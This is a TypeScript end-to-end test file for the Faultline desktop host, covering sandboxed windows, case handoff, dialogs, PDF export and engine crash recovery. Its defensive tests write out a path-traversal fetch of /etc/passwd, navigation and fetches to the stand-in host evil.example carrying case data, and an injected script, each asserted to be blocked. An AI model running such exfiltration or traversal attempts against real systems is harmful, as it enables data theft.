/** What only the desktop host does. The stand-in's limits are printed by it and listed in docs/adr/0010. */
import { mkdir, readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { generateLogs } from '../../perf/generate-otlp.ts';
import { startFaultline } from '../../support/run-faultline.ts';
import { expect, test } from '../support/fixtures.ts';
import { prepareCase } from '../support/prepare-case.ts';
import { callPort, outputOf } from './port-calls.ts';
import { startDesktopHost } from './start-desktop-host.ts';
import type { DesktopHost } from './start-desktop-host.ts';
import { startStandIn } from './stand-in-process.ts';

/** Runs `use` with a desktop host in the test's folder and expects it to end well. */
async function withHost(
  folder: string,
  args: readonly string[],
  use: (host: DesktopHost) => Promise<void>,
  env: Readonly<Record<string, string>> = {},
): Promise<void> {
  const host = await startDesktopHost({ folder, args, env });
  try {
    await use(host);
  } finally {
    expect(await host.close(), `the program ends well; it said:\n${host.standIn.log()}`).toBe(0);
  }
}

interface CaseSummary {
  readonly caseFile: string;
  readonly records: Readonly<Record<string, number>>;
}
const summary = { kind: 'engine', procedure: 'case.summary' } as const;

test.use({ bundle: null });

test.describe('windows', () => {
  test('are sandboxed, isolated and without Node @quick', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const [window] = await host.windows();
      expect(window?.webPreferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        webSecurity: true,
        webviewTag: false,
      });
      expect(await host.standIn.ask('isSandboxed')).toBe(true);
      const globals = await host.page.evaluate(() =>
        ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in globalThis),
      );
      expect(globals).toEqual([]);
      const bridge = await host.page.evaluate(() =>
        Object.keys((globalThis as unknown as { faultlineDesktop: object }).faultlineDesktop),
      );
      expect(bridge.sort()).toEqual(['pathOfFile', 'requestPort']);
    });
  });

  test('come back where they were, and on a display that is there', async ({ folder }) => {
    const bounds = { x: 2_000, y: 60, width: 1_000, height: 700 };
    const two = JSON.stringify([
      { x: 0, y: 0, width: 1_920, height: 1_040 },
      { x: 1_920, y: 0, width: 1_600, height: 900 },
    ]);
    const firstBounds = async (host: DesktopHost): Promise<unknown> => (await host.windows())[0]?.bounds;
    await withHost(
      folder,
      [],
      async (host) => {
        const [window] = await host.windows();
        await host.standIn.ask('setBounds', { targetId: window!.targetId, bounds });
      },
      { STAND_IN_DISPLAYS: two },
    );
    await withHost(folder, [], async (host) => expect(await firstBounds(host)).toEqual(bounds), {
      STAND_IN_DISPLAYS: two,
    });
    // The second display was unplugged: the window keeps its size in the middle of the one that is left.
    await withHost(folder, [], async (host) =>
      expect(await firstBounds(host)).toEqual({ x: 460, y: 190, width: 1_000, height: 700 }),
    );
  });

  test('two on one case: the second lies beside the first and asks the same engine', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [caseFile], async (host) => {
      expect(await host.standIn.ask('clickMenu', { item: 'window.new' })).toBe(true);
      const [first, second] = await host.pages(2);
      const summaries = [await outputOf<CaseSummary>(first!, summary), await outputOf<CaseSummary>(second!, summary)];
      expect(summaries.map((found) => found.caseFile)).toEqual([caseFile, caseFile]);
      expect(await host.standIn.ask('utilityProcesses')).toHaveLength(1);
      const [a, b] = await host.windows();
      expect([b!.bounds.x - a!.bounds.x, b!.bounds.y - a!.bounds.y]).toEqual([32, 32]);
    });
  });
});

test.describe('what reaches the program from outside', () => {
  test('a case file named at the start is open before the page asks @quick', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [caseFile], async (host) => {
      const found = await outputOf<CaseSummary>(host.page, summary);
      expect(found.caseFile).toBe(caseFile);
      expect(found.records['spans']).toBeGreaterThan(0);
      // The list of recent cases is one for the menu and for the page.
      await expect
        .poll(() => callPort(host.page, { kind: 'engine', procedure: 'case.recent' }))
        .toMatchObject({ output: { cases: [{ caseFile }] } });
      await expect
        .poll(async () => JSON.stringify(await host.standIn.ask('menu')))
        .toContain(JSON.stringify(caseFile).slice(1, -1));
    });
  });

  test('a second start hands its case to the first and ends', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [], async (host) => {
      const second = startStandIn({ folder, args: [caseFile] });
      expect(await second.ended(), second.log()).toBe(0);
      await expect.poll(async () => (await host.windows()).length).toBe(1);
      // The page is told, and opens it in the window that was empty.
      await expect.poll(() => callPort(host.page, summary)).toMatchObject({ output: { caseFile } });
    });
  });

  test('a second case gets a window and an engine of its own; the same case only comes to the front', async ({
    folder,
  }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    const otherFolder = join(folder, 'other');
    await mkdir(otherFolder);
    const other = await prepareCase('partner-outage', otherFolder);
    await withHost(folder, [caseFile], async (host) => {
      await outputOf(host.page, summary);
      expect(await startStandIn({ folder, args: [other] }).ended()).toBe(0);
      const [, second] = await host.pages(2);
      expect((await outputOf<CaseSummary>(second!, summary)).caseFile).toBe(other);
      expect(await startStandIn({ folder, args: [caseFile] }).ended()).toBe(0);
      expect(await host.windows()).toHaveLength(2);
      expect(await host.standIn.ask('utilityProcesses')).toHaveLength(2);
    });
  });

  test('a link to a case never opened here asks first', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    const link = `faultline://case?file=${encodeURIComponent(caseFile)}#/logs`;
    await withHost(folder, [], async (host) => {
      await host.standIn.ask('openUrl', { url: link });
      await expect.poll(async () => (await host.dialogs.shown()).length).toBe(1);
      expect(await callPort(host.page, summary)).toMatchObject({ code: 'failed_precondition' });
      await host.dialogs.answer({ response: 0 });
      await host.standIn.ask('openUrl', { url: link });
      await expect.poll(() => callPort(host.page, summary)).toMatchObject({ output: { caseFile } });
      await expect(host.page).toHaveURL(/#\/logs/);
      expect((await host.dialogs.shown())[0]?.options).toMatchObject({ detail: caseFile, cancelId: 1 });
    });
  });

  test('a case that is none leaves the program usable', async ({ folder }) => {
    const broken = join(folder, 'broken.faultline');
    await writeFile(broken, 'x'.repeat(9_000));
    await withHost(folder, [broken], async (host) => {
      await expect(host.page.getByText(/not a Faultline case/).first()).toBeVisible();
      const opened = await callPort(host.page, {
        kind: 'engine',
        procedure: 'case.open',
        input: { caseFile: join(folder, 'fresh.faultline') },
      });
      expect(opened).toHaveProperty('output.caseFile', join(folder, 'fresh.faultline'));
    });
  });
});

test.describe('dialogs', () => {
  test('ask for the one file that is to be read another way when it lies elsewhere now', async ({ folder }) => {
    const [caseFile, old, moved] = [join(folder, 'case.faultline'), join(folder, 'app.log'), join(folder, 'kept.log')];
    const text = '2026-11-18T14:04:31Z INFO one\n    two\n2026-11-18T14:04:32Z INFO three\n';
    await writeFile(old, text);
    const imported = startFaultline(['import', old, '--case', caseFile], folder);
    expect((await imported.ended).code).toBe(0);
    await rename(old, moved);
    await withHost(folder, [caseFile], async ({ page, dialogs }) => {
      await page.getByRole('link', { name: /^Sources/ }).click();
      const row = page.getByRole('row', { name: /^app\.log/ });
      await expect(row.getByRole('cell').nth(4)).toHaveText('2');
      await page.getByRole('button', { name: /app\.log/ }).click();
      await page.keyboard.press('Shift+R');
      await dialogs.answer({ filePaths: [moved] });
      await page.getByRole('button', { name: 'Pick the file' }).click();
      await page.getByRole('button', { name: /Plain text log/ }).click();
      await expect(row.getByRole('cell').nth(4)).toHaveText('3');
      await expect(row).toContainText('chosen');
    });
  });

  test('give paths, and nothing when dismissed', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      await host.dialogs.answer({ filePaths: ['/bundles/a.tar.gz', '/bundles/b.json'] });
      const call = { kind: 'host', procedure: 'host.pickFiles' } as const;
      expect(await outputOf(host.page, call)).toEqual({ paths: ['/bundles/a.tar.gz', '/bundles/b.json'] });
      expect(await outputOf(host.page, call)).toEqual({ paths: [] });
      expect(await outputOf(host.page, { kind: 'host', procedure: 'host.pickCaseFile' })).toEqual({ caseFile: null });
      expect((await host.dialogs.shown()).map(({ kind }) => kind)).toEqual(['open', 'open', 'open']);
    });
  });

  test('a new case replaces a file the person agreed to replace, but never one that is open', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    const old = join(folder, 'old.faultline');
    await writeFile(old, 'an older case');
    await withHost(folder, [caseFile], async (host) => {
      await outputOf(host.page, summary);
      const call = { kind: 'host', procedure: 'host.newCaseFile' } as const;
      await host.dialogs.answer({ filePath: old });
      expect(await outputOf(host.page, call)).toEqual({ caseFile: old });
      await expect(readFile(old)).rejects.toThrow(/ENOENT/);
      await host.dialogs.answer({ filePath: caseFile });
      expect(await callPort(host.page, call)).toMatchObject({ code: 'failed_precondition' });
      expect((await outputOf<CaseSummary>(host.page, summary)).caseFile).toBe(caseFile);
    });
  });

  test('save bytes whole, and print a report as PDF without its scripts', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const html = '<h1>Post-mortem</h1><script>document.body.textContent = "scripted"</script><p>Checkout failed.</p>';
      const pdf = join(folder, 'report.pdf');
      await host.dialogs.answer({ filePath: pdf });
      const printed = await outputOf(host.page, {
        kind: 'host',
        procedure: 'host.printPdf',
        input: { html, suggestedName: 'report.pdf' },
      });
      expect(printed).toEqual({ savedPath: pdf });
      const bytes = await readFile(pdf);
      expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
      // The outline of the PDF holds the heading: the report was there, and its script did not take it away.
      expect(bytes.length).toBeGreaterThan(5_000);
      expect(bytes.includes('/Outlines')).toBe(true);
      expect(await host.windows()).toHaveLength(1);
    });
  });
});

test.describe('nothing leaves the page', () => {
  test('its policy comes with every answer, errors as well @quick', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const found = await host.page.evaluate(async () => {
        const answers = await Promise.all([
          fetch('./index.html'),
          fetch('./../../etc/passwd'),
          fetch('./no-such-file'),
        ]);
        return answers.map((answer) => [answer.status, answer.headers.get('content-security-policy')]);
      });
      expect(found.map(([status]) => status)).toEqual([200, 404, 404]);
      for (const [, policy] of found) expect(policy).toContain("default-src 'none'");
    });
  });

  test('no navigation, no new window, no frame, no request, no permission', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const address = host.page.url();
      await host.page.evaluate("location.href = 'https://evil.example/?case=secret'").catch(() => undefined);
      await host.page.evaluate("void window.open('https://evil.example/popup')").catch(() => undefined);
      await host.page.evaluate(
        "{ const frame = document.createElement('iframe'); frame.src = 'https://evil.example/frame'; document.body.append(frame); }",
      );
      const request = await host.page.evaluate(() =>
        fetch('https://evil.example/').then(
          () => 'it went out',
          () => 'refused',
        ),
      );
      expect(request).toBe('refused');
      const permissions = await host.page.evaluate(async () => {
        const { permissions } = navigator as unknown as {
          readonly permissions: { query(name: { name: string }): Promise<{ readonly state: string }> };
        };
        const names = ['geolocation', 'notifications', 'camera', 'microphone'];
        return Promise.all(names.map(async (name) => (await permissions.query({ name })).state));
      });
      expect(permissions).toEqual(['denied', 'denied', 'denied', 'denied']);
      await expect
        .poll(() => host.standIn.ask('blockedRequests'))
        .toEqual(expect.arrayContaining(['https://evil.example/?case=secret', 'https://evil.example/popup']));
      expect(host.page.url()).toBe(address);
      expect(await host.windows()).toHaveLength(1);
      expect(await host.standIn.ask('openedExternally')).toEqual([]);
    });
  });

  test('documentation opens in the browser of the system, after being asked', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const open = (url: string): Promise<unknown> => host.page.evaluate(`void window.open(${JSON.stringify(url)})`);
      await open('https://opentelemetry.io/docs/concepts/');
      await expect.poll(async () => (await host.dialogs.shown()).length).toBe(1);
      expect(await host.standIn.ask('openedExternally')).toEqual([]);
      await host.dialogs.answer({ response: 0 });
      await open('https://opentelemetry.io/docs/concepts/');
      await expect
        .poll(() => host.standIn.ask('openedExternally'))
        .toEqual(['https://opentelemetry.io/docs/concepts/']);
    });
  });

  test('a port is handed to the page itself only', async ({ folder }) => {
    await withHost(folder, [], async (host) => {
      const refused = await host.page.evaluate(async () => {
        const { faultlineDesktop } = globalThis as unknown as {
          readonly faultlineDesktop: { requestPort(kind: unknown, requestId: unknown): void };
        };
        faultlineDesktop.requestPort('root', 'a');
        faultlineDesktop.requestPort('engine', { toString: () => 'b' });
        faultlineDesktop.requestPort('engine', 'x'.repeat(65));
        return true;
      });
      expect(refused).toBe(true);
      expect(await callPort(host.page, summary)).toMatchObject({ code: 'failed_precondition' });
    });
  });
});

test.describe('an engine that dies', () => {
  test('is replaced with its case, under load, and the window stays usable', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [caseFile], async (host) => {
      const before = await outputOf<CaseSummary>(host.page, summary);
      const pid = await host.enginePid();
      const load = Array.from({ length: 40 }, () => callPort(host.page, { kind: 'engine', procedure: 'graph.get' }));
      // Large enough to be under way for seconds.
      const { path } = generateLogs(join(folder, 'large.jsonl'), 96e6, 'killed');
      const started = await outputOf(host.page, {
        kind: 'engine',
        procedure: 'import.start',
        input: { paths: [path] },
      });
      process.kill(pid, 'SIGKILL');
      expect(started).toHaveProperty('jobId');
      const answers = await Promise.all(load);
      // Whatever was under way is answered or its port closes: nothing hangs.
      expect(answers).toHaveLength(40);
      await expect(async () => expect(await host.enginePid()).not.toBe(pid)).toPass();
      const after = await outputOf<CaseSummary>(host.page, summary);
      expect(after).toMatchObject({ caseFile, records: { spans: before.records['spans'] } });
      const { jobs } = await outputOf<{ jobs: readonly { kind: string; status: string }[] }>(host.page, {
        kind: 'engine',
        procedure: 'job.list',
      });
      expect(jobs[0]).toMatchObject({ kind: 'import', status: 'interrupted' });
      expect(host.standIn.log()).toContain('the engine ended unexpectedly');
    });
  });

  test('what the page could not read meanwhile is read from the next one', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [caseFile], async (host) => {
      const rows = host.page.getByRole('list', { name: /^Log rows/ });
      await host.page.keyboard.press('5');
      await expect(rows.getByRole('listitem').first()).toBeVisible();
      process.kill(await host.enginePid(), 'SIGKILL');
      // Another range: rows the page has never had.
      await host.page.getByRole('button', { name: 'All', exact: true }).first().click();
      await expect(host.page.getByText('What you see stays', { exact: false })).toHaveCount(0);
      await expect(rows.getByRole('listitem').first()).toBeVisible();
      await rows.focus();
      await host.page.keyboard.press('End');
      await expect(rows.locator('[aria-current="true"]')).toBeVisible();
      await expect(host.page.getByText(/^The (rows|histogram|templates) could not/)).toHaveCount(0);
    });
  });

  test('a statement of the SQL console runs in a process that can be killed', async ({ folder }) => {
    const caseFile = await prepareCase('errors-after-deploy', folder);
    await withHost(folder, [caseFile], async (host) => {
      await outputOf(host.page, summary);
      const endless = 'with recursive n(i) as (select 1 union all select i + 1 from n) select max(i) from n';
      const answer = await callPort(host.page, {
        kind: 'engine',
        procedure: 'sql.run',
        input: { sql: endless, timeoutMs: 200 },
      });
      expect(answer).toMatchObject({ code: 'deadline_exceeded' });
      await expect
        .poll(async () => (await host.standIn.ask('utilityProcesses')).map(({ serviceName }) => serviceName))
        .toEqual(['Faultline engine']);
      expect(await outputOf(host.page, summary)).toHaveProperty('caseFile', caseFile);
    });
  });
});
